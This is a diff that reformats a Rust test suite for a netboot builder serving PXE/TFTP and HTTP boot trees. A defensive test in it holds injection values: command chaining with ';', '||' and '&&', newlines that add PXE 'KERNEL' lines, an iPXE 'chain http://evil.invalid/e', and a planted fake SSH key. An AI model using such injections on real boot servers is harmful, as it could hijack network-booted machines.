@@ -56,9 +56,13 @@ fn add_generations(b: &mut Batch, gens: &[&Gen]) {
         let toplevel = format!("nixos-system-{}", g.id);
         b.add(
             &toplevel,
-            &[("init", Entry::text("#!/bin/sh\n")), ("kernel", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel)))],
+            &[
+                ("init", Entry::text("#!/bin/sh\n")),
+                ("kernel", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel))),
+            ],
         );
-        let mut files: Vec<(&str, Entry)> = vec![("bzImage", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel)))];
+        let mut files: Vec<(&str, Entry)> =
+            vec![("bzImage", Entry::link(format!("{{{{{}}}}}/bzImage", g.kernel)))];
         if g.initrd {
             files.push(("initrd", Entry::text(format!("initrd of {}", g.id))));
         }
@@ -95,7 +99,10 @@ impl Carrier {
         // Debian's layout: pxelinux.0, the .c32 modules and memdisk in three directories.
         let dirs = [
             ("PXELINUX", &["pxelinux.0"][..]),
-            ("syslinux/modules/bios", &["ldlinux.c32", "libcom32.c32", "libutil.c32", "menu.c32", "reboot.c32"][..]),
+            (
+                "syslinux/modules/bios",
+                &["ldlinux.c32", "libcom32.c32", "libutil.c32", "menu.c32", "reboot.c32"][..],
+            ),
             ("syslinux", &["memdisk"][..]),
         ];
         for (d, files) in dirs {
@@ -159,7 +166,10 @@ impl Carrier {
     fn deploy(&self, alias: &str, dists: &[&PathBuf], first_time: i64) {
         for (i, d) in dists.iter().enumerate() {
             let n = set_profile(&self.profiles(), alias, d);
-            set_link_time(&generation_link(&self.profiles(), alias, n), first_time + i as i64 * DAY);
+            set_link_time(
+                &generation_link(&self.profiles(), alias, n),
+                first_time + i as i64 * DAY,
+            );
         }
     }
 
@@ -176,8 +186,10 @@ impl Carrier {
     }
 
     fn entries(&self, dir: &Path) -> Vec<String> {
-        let mut v: Vec<String> =
-            std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+        let mut v: Vec<String> = std::fs::read_dir(dir)
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
         v.sort();
         v
     }
@@ -204,17 +216,27 @@ fn nixos_json(fqdn: &str, version: &str, macs: &[&str]) -> Value {
 /// and ISO images.
 fn main_fixture() -> Carrier {
     let c = Carrier::new();
-    let mut n1 =
-        nixos_json("nixos1.example.org", "24.05.20240101.aaaaaaa", &["52:54:00:10:00:11", "52:54:00:10:00:99"]);
+    let mut n1 = nixos_json(
+        "nixos1.example.org",
+        "24.05.20240101.aaaaaaa",
+        &["52:54:00:10:00:11", "52:54:00:10:00:99"],
+    );
     n1["revision"] = json!("0123456789abcdef0123456789abcdef01234567");
     n1["swpins-info"] = json!({"nixpkgs": {"rev": "0123456789abcdef"}});
     let g = [
         Gen::new("nixos1-a", n1),
         Gen::new(
             "nixos1-b",
-            nixos_json("nixos1.example.org", "24.05.20240201.bbbbbbb", &["52:54:00:10:00:11", "52-54-00-AA-BB-CC"]),
+            nixos_json(
+                "nixos1.example.org",
+                "24.05.20240201.bbbbbbb",
+                &["52:54:00:10:00:11", "52-54-00-AA-BB-CC"],
+            ),
         ),
-        Gen::new("nixos1-c", nixos_json("nixos1.example.org", "24.05.20240301.ccccccc", &["52:54:00:10:00:11"])),
+        Gen::new(
+            "nixos1-c",
+            nixos_json("nixos1.example.org", "24.05.20240301.ccccccc", &["52:54:00:10:00:11"]),
+        ),
     ];
     let os = |id, version: &str, kernel| Gen {
         squashfs: true,
@@ -226,7 +248,10 @@ fn main_fixture() -> Carrier {
                    "toplevel": "@", "version": version, "macs": ["52:54:00:10:00:12"]}),
         )
     };
-    let o = [os("node2-a", "24.01.0.1111111", "linux-6.1.0"), os("node2-b", "24.02.0.2222222", "linux-6.6.1")];
+    let o = [
+        os("node2-a", "24.01.0.1111111", "linux-6.1.0"),
+        os("node2-b", "24.02.0.2222222", "linux-6.6.1"),
+    ];
     let plain = Gen::new("web-2-a", json!({"toplevel": "@"}));
     let mut b = Batch::new();
     add_generations(&mut b, &[&g[0], &g[1], &g[2], &o[0], &o[1], &plain]);
@@ -245,7 +270,10 @@ fn golden_trees_nixos_and_vpsadminos() {
     let report = netboot::build(&c.config()).unwrap();
     assert!(report.faults.is_empty(), "{:#?}", report.faults);
     assert_eq!(report.builds, 1);
-    assert_eq!(report.machines.iter().map(|m| m.name.as_str()).collect::<Vec<_>>(), ["nixos1", "os:node2", "web-2"]);
+    assert_eq!(
+        report.machines.iter().map(|m| m.name.as_str()).collect::<Vec<_>>(),
+        ["nixos1", "os:node2", "web-2"]
+    );
     assert_golden("netboot/main/report.txt", &report_text(&c, &report));
     assert_golden("netboot/main/tftp.txt", &c.dump("tftp", &report));
     assert_golden("netboot/main/http.txt", &c.dump("http", &report));
@@ -270,18 +298,28 @@ fn golden_trees_nixos_and_vpsadminos() {
     let tftp = c.netboot().join("tftp");
     let http = c.netboot().join("http");
     assert!(tftp.join("pxelinux.cfg/01-52-54-00-10-00-11").exists());
-    assert!(tftp.join("pxelinux.cfg/01-52-54-00-aa-bb-cc").exists(), "MACs normalised to lowercase");
+    assert!(
+        tftp.join("pxelinux.cfg/01-52-54-00-aa-bb-cc").exists(),
+        "MACs normalised to lowercase"
+    );
     assert!(
         std::fs::read_to_string(tftp.join("pxeserver/machines/nixos1.example.org/auto.cfg"))
             .unwrap()
             .contains("DEFAULT nixos1.example.org")
     );
-    let machines: Value = serde_json::from_slice(&std::fs::read(http.join("machines.json")).unwrap()).unwrap();
+    let machines: Value =
+        serde_json::from_slice(&std::fs::read(http.join("machines.json")).unwrap()).unwrap();
     assert!(machines["machines"].as_array().unwrap().iter().any(|m| m["name"] == "os:node2"));
-    let machine: Value =
-        serde_json::from_slice(&std::fs::read(http.join("nixos1.example.org/machine.json")).unwrap()).unwrap();
-    let current: Vec<&Value> =
-        machine["generations"].as_array().unwrap().iter().filter(|g| g["current"] == true).collect();
+    let machine: Value = serde_json::from_slice(
+        &std::fs::read(http.join("nixos1.example.org/machine.json")).unwrap(),
+    )
+    .unwrap();
+    let current: Vec<&Value> = machine["generations"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|g| g["current"] == true)
+        .collect();
     assert_eq!(current.len(), 1);
     assert_eq!(current[0]["generation"], 2);
     let profile_real = std::fs::canonicalize(c.profiles().join("confctl-nixos1")).unwrap();
@@ -290,16 +328,24 @@ fn golden_trees_nixos_and_vpsadminos() {
     let cur = std::fs::canonicalize(http.join("nixos1.example.org/current")).unwrap();
     assert_eq!(cur.file_name().unwrap(), "2");
     let params = std::fs::read_to_string(http.join("nixos1.example.org/2/kernel-params")).unwrap();
-    assert!(params.contains(&format!("init={}/init", current[0]["toplevel"].as_str().unwrap())), "{params}");
-    assert!(params.contains("httproot=http://192.168.100.1/"), "{params}");
-    let os_params = std::fs::read_to_string(http.join("node2.prg.example.org/2/kernel-params")).unwrap();
     assert!(
-        os_params.starts_with("httproot=http://192.168.100.1/node2.prg.example.org/2/root.squashfs "),
+        params.contains(&format!("init={}/init", current[0]["toplevel"].as_str().unwrap())),
+        "{params}"
+    );
+    assert!(params.contains("httproot=http://192.168.100.1/"), "{params}");
+    let os_params =
+        std::fs::read_to_string(http.join("node2.prg.example.org/2/kernel-params")).unwrap();
+    assert!(
+        os_params
+            .starts_with("httproot=http://192.168.100.1/node2.prg.example.org/2/root.squashfs "),
         "{os_params}"
     );
     // Boot files resolve to the store through the object links.
     let kernel = std::fs::canonicalize(tftp.join("boot/nixos1.example.org/3/bzImage")).unwrap();
-    assert!(kernel.starts_with("/nix/store") && kernel.to_string_lossy().ends_with("-linux-6.1.0/bzImage"));
+    assert!(
+        kernel.starts_with("/nix/store")
+            && kernel.to_string_lossy().ends_with("-linux-6.1.0/bzImage")
+    );
 }
 
 #[test]
@@ -308,17 +354,31 @@ fn golden_faults_leave_only_the_faulty_machines_out() {
     let gens = [
         Gen::new("good", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:01"])),
         Gen { machine_json: None, ..Gen::new("missing-json", json!(null)) },
-        Gen { machine_json: None, raw_json: Some("{\"spin\": \"nixos\","), ..Gen::new("bad-json", json!(null)) },
+        Gen {
+            machine_json: None,
+            raw_json: Some("{\"spin\": \"nixos\","),
+            ..Gen::new("bad-json", json!(null))
+        },
         Gen::new("no-toplevel", json!({"spin": "nixos", "fqdn": "no-toplevel.example.org"})),
         Gen::new("no-profile", nixos_json("no-profile.example.org", "1.0", &[])),
         Gen::new("elsewhere", nixos_json("elsewhere.example.org", "1.0", &[])),
         Gen::new("mac-dup", nixos_json("mac-dup.example.org", "1.0", &["52-54-00-00-00-01"])),
         Gen::new("fqdn-dup", nixos_json("good.example.org", "1.0", &["52:54:00:00:00:99"])),
         Gen::new("openvz", json!({"spin": "openvz", "toplevel": "@"})),
-        Gen { machine_json: None, raw_json: Some("not json"), ..Gen::new("old-bad-1", json!(null)) },
+        Gen {
+            machine_json: None,
+            raw_json: Some("not json"),
+            ..Gen::new("old-bad-1", json!(null))
+        },
         Gen::new("old-bad-2", nixos_json("old-bad.example.org", "2.0", &[])),
-        Gen::new("bad-mac", nixos_json("bad-mac.example.org", "1.0", &["zz:zz", "52:54:00:00:00:02"])),
-        Gen { initrd: false, ..Gen::new("no-initrd", nixos_json("no-initrd.example.org", "1.0", &[])) },
+        Gen::new(
+            "bad-mac",
+            nixos_json("bad-mac.example.org", "1.0", &["zz:zz", "52:54:00:00:00:02"]),
+        ),
+        Gen {
+            initrd: false,
+            ..Gen::new("no-initrd", nixos_json("no-initrd.example.org", "1.0", &[]))
+        },
         Gen { ..Gen::new("types", json!({"toplevel": "@", "macs": "52:54:00:00:00:03"})) },
     ];
     let mut b = Batch::new();
@@ -327,7 +387,9 @@ fn golden_faults_leave_only_the_faulty_machines_out() {
     let d = |id: &str| p[&format!("dist-{id}")].clone();
     c.deploy("good", &[&d("good")], T0);
     for (i, id) in
-        ["missing-json", "bad-json", "no-toplevel", "openvz", "bad-mac", "no-initrd", "types"].iter().enumerate()
+        ["missing-json", "bad-json", "no-toplevel", "openvz", "bad-mac", "no-initrd", "types"]
+            .iter()
+            .enumerate()
     {
         c.deploy(id, &[&d(id)], T0 + i as i64 * 60);
     }
@@ -370,14 +432,26 @@ fn golden_faults_leave_only_the_faulty_machines_out() {
     );
     // Messages name the file or the other profile.
     let msg = |p: &str| report.faults.iter().find(|f| f.profile == p).unwrap().to_string();
-    assert!(msg("missing-json").contains("confctl-missing-json-1-link/machine.json"), "{}", msg("missing-json"));
+    assert!(
+        msg("missing-json").contains("confctl-missing-json-1-link/machine.json"),
+        "{}",
+        msg("missing-json")
+    );
     assert!(msg("no-toplevel").contains("field `toplevel`: missing"), "{}", msg("no-toplevel"));
     assert!(msg("types").contains("field `macs`: expected a list of strings"), "{}", msg("types"));
-    assert!(msg("a-mac-dup").contains("MAC 52-54-00-00-00-01 is also a MAC of profile 'good'"), "{}", msg("a-mac-dup"));
+    assert!(
+        msg("a-mac-dup").contains("MAC 52-54-00-00-00-01 is also a MAC of profile 'good'"),
+        "{}",
+        msg("a-mac-dup")
+    );
     assert!(msg("a-fqdn-dup").contains("profile 'good'"), "{}", msg("a-fqdn-dup"));
     assert!(msg("openvz").contains("unknown spin 'openvz'"), "{}", msg("openvz"));
     assert!(msg("no-profile").contains("does not exist"), "{}", msg("no-profile"));
-    assert!(msg("elsewhere").contains("which is none of its generations (1)"), "{}", msg("elsewhere"));
+    assert!(
+        msg("elsewhere").contains("which is none of its generations (1)"),
+        "{}",
+        msg("elsewhere")
+    );
 }
 
 /// What a hostile dist tries to get into the served trees.
@@ -387,7 +461,12 @@ const SECRET: &str = "SECRET-KEY-MATERIAL-4f1c";
 /// Every file under `root` as a client reaches it (all symlinks followed) that contains
 /// `needle`.
 fn grep_served(root: &Path, needle: &str) -> Vec<PathBuf> {
-    fn walk(dir: &Path, needle: &[u8], seen: &mut std::collections::HashSet<PathBuf>, hits: &mut Vec<PathBuf>) {
+    fn walk(
+        dir: &Path,
+        needle: &[u8],
+        seen: &mut std::collections::HashSet<PathBuf>,
+        hits: &mut Vec<PathBuf>,
+    ) {
         let Ok(real) = std::fs::canonicalize(dir) else { return };
         if !seen.insert(real) {
             return;
@@ -421,11 +500,13 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
     let secret_dir = c.path().join("secret");
     std::fs::create_dir(&secret_dir).unwrap();
     let secret_key = secret_dir.join("id_ed25519");
-    std::fs::write(&secret_key, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")).unwrap();
+    std::fs::write(&secret_key, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n"))
+        .unwrap();
     let secret_json = secret_dir.join("machine.json");
     std::fs::write(
         &secret_json,
-        json!({"toplevel": "/nix/store/00000000000000000000000000000000-x", "label": SECRET}).to_string(),
+        json!({"toplevel": "/nix/store/00000000000000000000000000000000-x", "label": SECRET})
+            .to_string(),
     )
     .unwrap();
     let key = secret_key.display().to_string();
@@ -448,12 +529,35 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
         with("label-or", "label", json!(format!("x || {}", cmd("c")))),
         with("label-hash", "label", json!(format!("{INJECTED} #comment"))),
         with("label-expand", "label", json!(format!("${{{INJECTED}}}"))),
-        with("label-newline", "label", json!(format!("x\nLABEL evil\n  KERNEL http://{INJECTED}/k"))),
-        with("params-json", "kernelParams", json!(["console=ttyS0", format!("quiet ; {}", cmd("d"))])),
-        with("params-newline", "kernelParams", json!([format!("quiet\n  APPEND http://{INJECTED}/")])),
-        Gen { kernel_params: Some("quiet && chain http://evil.invalid/e"), ..with("params-file", "label", json!("p")) },
-        with("toplevel", "toplevel", json!(format!("{{{{nixos-system-toplevel}}}} || {}", cmd("f")))),
-        with("toplevel-newline", "toplevel", json!(format!("{{{{nixos-system-toplevel-newline}}}}\n{}", cmd("g")))),
+        with(
+            "label-newline",
+            "label",
+            json!(format!("x\nLABEL evil\n  KERNEL http://{INJECTED}/k")),
+        ),
+        with(
+            "params-json",
+            "kernelParams",
+            json!(["console=ttyS0", format!("quiet ; {}", cmd("d"))]),
+        ),
+        with(
+            "params-newline",
+            "kernelParams",
+            json!([format!("quiet\n  APPEND http://{INJECTED}/")]),
+        ),
+        Gen {
+            kernel_params: Some("quiet && chain http://evil.invalid/e"),
+            ..with("params-file", "label", json!("p"))
+        },
+        with(
+            "toplevel",
+            "toplevel",
+            json!(format!("{{{{nixos-system-toplevel}}}} || {}", cmd("f"))),
+        ),
+        with(
+            "toplevel-newline",
+            "toplevel",
+            json!(format!("{{{{nixos-system-toplevel-newline}}}}\n{}", cmd("g"))),
+        ),
         with("version", "version", json!(format!("24.05 ; {}", cmd("h")))),
         with("revision", "revision", json!(format!("abc${{{INJECTED}}}"))),
         with("revision-newline", "revision", json!(format!("abc\n{}", cmd("i")))),
@@ -475,12 +579,20 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
             extra: link("kernel-params", &key),
             ..Gen::new("old-hostile-1", nixos_json("old-hostile.example.org", "1.0", &[]))
         },
-        Gen::new("old-hostile-2", nixos_json("old-hostile.example.org", "2.0", &["52:54:00:00:00:02"])),
+        Gen::new(
+            "old-hostile-2",
+            nixos_json("old-hostile.example.org", "2.0", &["52:54:00:00:00:02"]),
+        ),
     ];
     let mut b = Batch::new();
     add_generations(&mut b, &gens.iter().collect::<Vec<_>>());
-    let evil_kernel = format!("/nix/store/00000000000000000000000000000000-linux-6.1 ; chain {INJECTED}.ipxe /bzImage");
-    b.add("nixos-system-evil-kernel", &[("init", Entry::text("")), ("kernel", Entry::link(evil_kernel))]);
+    let evil_kernel = format!(
+        "/nix/store/00000000000000000000000000000000-linux-6.1 ; chain {INJECTED}.ipxe /bzImage"
+    );
+    b.add(
+        "nixos-system-evil-kernel",
+        &[("init", Entry::text("")), ("kernel", Entry::link(evil_kernel))],
+    );
     let p = b.build();
     let d = |id: &str| p[&format!("dist-{id}")].clone();
     let hostile: Vec<&str> = gens
@@ -499,7 +611,10 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
     assert_eq!(published, ["good", "old-hostile"], "{}", report.summary());
     for id in &hostile {
         let fault = report.faults.iter().find(|f| f.profile == *id);
-        assert!(fault.is_some_and(|f| f.left_out), "profile '{id}' is not reported as left out: {fault:?}");
+        assert!(
+            fault.is_some_and(|f| f.left_out),
+            "profile '{id}' is not reported as left out: {fault:?}"
+        );
     }
     let old = report.machines.iter().find(|m| m.name == "old-hostile").unwrap();
     assert_eq!(old.generations.iter().map(|g| g.number).collect::<Vec<_>>(), [2]);
@@ -517,20 +632,37 @@ fn hostile_dists_are_left_out_and_nothing_leaks() {
     for f in &report.faults {
         assert!(!f.message.contains(SECRET), "{f}");
     }
-    let kind = |p: &str| format!("{:?}", report.faults.iter().find(|f| f.profile == p).unwrap().kind);
+    let kind =
+        |p: &str| format!("{:?}", report.faults.iter().find(|f| f.profile == p).unwrap().kind);
     let msg = |p: &str| report.faults.iter().find(|f| f.profile == p).unwrap().to_string();
     for id in ["secret-params", "secret-bzimage", "secret-json"] {
         assert_eq!(kind(id), "OutsideStore", "{}", msg(id));
-        assert!(msg(id).contains(&key) || msg(id).contains(&secret_json.display().to_string()), "{}", msg(id));
+        assert!(
+            msg(id).contains(&key) || msg(id).contains(&secret_json.display().to_string()),
+            "{}",
+            msg(id)
+        );
     }
-    assert!(msg("secret-params").contains("confctl-secret-params-1-link/kernel-params"), "{}", msg("secret-params"));
+    assert!(
+        msg("secret-params").contains("confctl-secret-params-1-link/kernel-params"),
+        "{}",
+        msg("secret-params")
+    );
     assert_eq!(kind("huge-json"), "TooLarge", "{}", msg("huge-json"));
-    assert!(msg("huge-json").contains("confctl-huge-json-1-link/machine.json"), "{}", msg("huge-json"));
+    assert!(
+        msg("huge-json").contains("confctl-huge-json-1-link/machine.json"),
+        "{}",
+        msg("huge-json")
+    );
     for id in hostile.iter().filter(|id| !id.starts_with("secret-") && **id != "huge-json") {
         assert_eq!(kind(id), "InvalidValue", "{}", msg(id));
     }
     assert!(msg("label-semicolon").contains("field `label`"), "{}", msg("label-semicolon"));
-    assert!(msg("params-file").contains("confctl-params-file-1-link/kernel-params"), "{}", msg("params-file"));
+    assert!(
+        msg("params-file").contains("confctl-params-file-1-link/kernel-params"),
+        "{}",
+        msg("params-file")
+    );
     assert!(msg("params-json").contains("field `kernelParams`"), "{}", msg("params-json"));
     assert!(msg("toplevel").contains("field `toplevel`"), "{}", msg("toplevel"));
     assert_golden("netboot/hostile/report.txt", &report_text(&c, &report));
@@ -556,21 +688,33 @@ fn profiles_scan_reads_real_nix_profiles() {
     std::os::unix::fs::symlink(a, c.profiles().join("system-1-link")).unwrap();
 
     let scanned = profiles::scan(&c.profiles()).unwrap();
-    assert_eq!(scanned.iter().map(|p| p.name.as_str()).collect::<Vec<_>>(), ["my-node-2", "os:node"]);
+    assert_eq!(
+        scanned.iter().map(|p| p.name.as_str()).collect::<Vec<_>>(),
+        ["my-node-2", "os:node"]
+    );
     let p0 = &scanned[0];
     assert_eq!(p0.generations.iter().map(|g| g.number).collect::<Vec<_>>(), [1, 2, 3]);
     assert_eq!(p0.current().unwrap().number, 3, "the generation the profile link names");
     assert_eq!(p0.generations[0].store_path, **a);
     assert_eq!(p0.store_path.as_ref(), Some(a));
-    assert_eq!(p0.generations.iter().map(|g| g.time).collect::<Vec<_>>(), [T0, T0 + DAY, T0 + 2 * DAY]);
+    assert_eq!(
+        p0.generations.iter().map(|g| g.time).collect::<Vec<_>>(),
+        [T0, T0 + DAY, T0 + 2 * DAY]
+    );
     let mj = p0.read_machine_json(&p0.generations[1]).unwrap();
     assert_eq!(mj.fqdn.as_deref(), Some("b.example.org"));
-    assert!(mj.toplevel.starts_with("/nix/store/") && mj.toplevel.ends_with("-nixos-system-scan-b"));
+    assert!(
+        mj.toplevel.starts_with("/nix/store/") && mj.toplevel.ends_with("-nixos-system-scan-b")
+    );
     assert_eq!(mj.shortrev().as_deref(), Some("0"));
 
     switch_generation(&c.profiles(), "my-node-2", 1);
     let scanned = profiles::scan(&c.profiles()).unwrap();
-    assert_eq!(scanned[0].current().unwrap().number, 1, "not the newest, and not generation 3 with the same path");
+    assert_eq!(
+        scanned[0].current().unwrap().number,
+        1,
+        "not the newest, and not generation 3 with the same path"
+    );
 
     std::fs::remove_file(profile_path(&c.profiles(), "os/node")).unwrap();
     let scanned = profiles::scan(&c.profiles()).unwrap();
@@ -607,7 +751,10 @@ fn rebuild_renders_only_the_changed_machine() {
         )
     );
     assert_ne!(unchanged.tftp_dir, first.tftp_dir, "a new tree is published");
-    assert!(first.tftp_dir.is_dir() && first.http_dir.is_dir(), "the previous trees are kept as the spares");
+    assert!(
+        first.tftp_dir.is_dir() && first.http_dir.is_dir(),
+        "the previous trees are kept as the spares"
+    );
 
     let g = Gen::new("web-2-b", json!({"toplevel": "@", "version": "2"}));
     let mut b = Batch::new();
@@ -616,7 +763,11 @@ fn rebuild_renders_only_the_changed_machine() {
     c.deploy("web-2", &[&d], T0 + 30 * DAY);
     let second = netboot::build(&cfg).unwrap();
     assert_eq!((second.machines_rendered, second.machines_reused), (1, 2));
-    assert_eq!((&second.tftp_dir, &second.http_dir), (&first.tftp_dir, &first.http_dir), "the spares are patched");
+    assert_eq!(
+        (&second.tftp_dir, &second.http_dir),
+        (&first.tftp_dir, &first.http_dir),
+        "the spares are patched"
+    );
     let trees = |c: &Carrier, r: &netboot::BuildReport| (c.dump("tftp", r), c.dump("http", r));
     let patched = trees(&c, &second);
     // A patched tree is exactly what a build from nothing writes.
@@ -624,9 +775,16 @@ fn rebuild_renders_only_the_changed_machine() {
     let fresh = netboot::build(&cfg).unwrap();
     assert_eq!((fresh.machines_rendered, fresh.machines_reused), (3, 0));
     assert_eq!(trees(&c, &fresh), patched);
-    assert_eq!((objects("tftp"), objects("http")), ((3, 2), (3, 1)), "the replaced object is collected");
+    assert_eq!(
+        (objects("tftp"), objects("http")),
+        ((3, 2), (3, 1)),
+        "the replaced object is collected"
+    );
     let web = second.machines.iter().find(|m| m.name == "web-2").unwrap();
-    assert_eq!(web.generations.iter().map(|g| (g.number, g.current)).collect::<Vec<_>>(), [(2, true), (1, false)]);
+    assert_eq!(
+        web.generations.iter().map(|g| (g.number, g.current)).collect::<Vec<_>>(),
+        [(2, true), (1, false)]
+    );
     let http = c.netboot().join("http");
     assert_eq!(std::fs::read_link(http.join("web-2/current")).unwrap(), PathBuf::from("2"));
 
@@ -652,7 +810,11 @@ fn a_damaged_index_or_a_changed_machines_json_is_not_trusted() {
 
     std::fs::write(&index, b"\x05garbage").unwrap();
     let second = netboot::build(&cfg).unwrap();
-    assert_eq!((second.machines_rendered, second.machines_reused), (0, 3), "objects are still reused");
+    assert_eq!(
+        (second.machines_rendered, second.machines_reused),
+        (0, 3),
+        "objects are still reused"
+    );
     assert_eq!((c.dump("tftp", &second), c.dump("http", &second)), want);
     assert_ne!(std::fs::read(&index).unwrap(), b"\x05garbage", "the index is written again");
 
@@ -672,7 +834,10 @@ fn failed_build_keeps_the_old_trees_and_leaves_nothing_behind() {
     let cfg = c.config();
     let first = netboot::build(&cfg).unwrap();
     let before = (c.entries(&c.netboot()), c.dump("tftp", &first), c.dump("http", &first));
-    let objects_before = (c.entries(&c.netboot().join("tftp.objects")), c.entries(&c.netboot().join("http.objects")));
+    let objects_before = (
+        c.entries(&c.netboot().join("tftp.objects")),
+        c.entries(&c.netboot().join("http.objects")),
+    );
 
     // A new generation (its object gets rendered), then a failure while the new TFTP
     // tree is being written: an explicitly configured syslinux file is missing.
@@ -698,7 +863,10 @@ fn failed_build_keeps_the_old_trees_and_leaves_nothing_behind() {
     assert!(err.contains("gone/reboot.c32"), "{err}");
 
     assert_eq!((c.entries(&c.netboot()), c.dump("tftp", &first), c.dump("http", &first)), before);
-    let objects_after = (c.entries(&c.netboot().join("tftp.objects")), c.entries(&c.netboot().join("http.objects")));
+    let objects_after = (
+        c.entries(&c.netboot().join("tftp.objects")),
+        c.entries(&c.netboot().join("http.objects")),
+    );
     assert_eq!(objects_after, objects_before, "the new object is removed");
 
     // The next good build publishes the new generation.
@@ -724,7 +892,12 @@ fn concurrent_builds_coalesce() {
     let cfg = Arc::new(c.config());
     // A build "running": hold the lock.
     std::fs::create_dir_all(cfg.lock_file.parent().unwrap()).unwrap();
-    let holder = std::fs::OpenOptions::new().create(true).truncate(false).write(true).open(&cfg.lock_file).unwrap();
+    let holder = std::fs::OpenOptions::new()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(&cfg.lock_file)
+        .unwrap();
     holder.lock().unwrap();
     let n = 4;
     let barrier = Arc::new(Barrier::new(n + 1));
@@ -748,12 +921,19 @@ fn concurrent_builds_coalesce() {
     assert!(matches!(netboot::request_build(&cfg, false).unwrap(), Outcome::Queued));
     drop(holder);
     let outcomes: Vec<Outcome> = threads.into_iter().map(|t| t.join().unwrap()).collect();
-    let built: Vec<&netboot::BuildReport> =
-        outcomes.iter().filter_map(|o| if let Outcome::Built(r) = o { Some(r) } else { None }).collect();
-    let covered: Vec<&netboot::BuildReport> =
-        outcomes.iter().filter_map(|o| if let Outcome::Covered(r) = o { Some(r) } else { None }).collect();
+    let built: Vec<&netboot::BuildReport> = outcomes
+        .iter()
+        .filter_map(|o| if let Outcome::Built(r) = o { Some(r) } else { None })
+        .collect();
+    let covered: Vec<&netboot::BuildReport> = outcomes
+        .iter()
+        .filter_map(|o| if let Outcome::Covered(r) = o { Some(r) } else { None })
+        .collect();
     assert_eq!(built.len(), 1, "{outcomes:?}");
-    assert_eq!(built[0].builds, 1, "one build for every caller that arrived during the running one");
+    assert_eq!(
+        built[0].builds, 1,
+        "one build for every caller that arrived during the running one"
+    );
     assert_eq!(covered.len(), n - 1);
     for r in covered {
         assert_eq!(r.tftp_dir, built[0].tftp_dir, "covered callers get the report of that build");
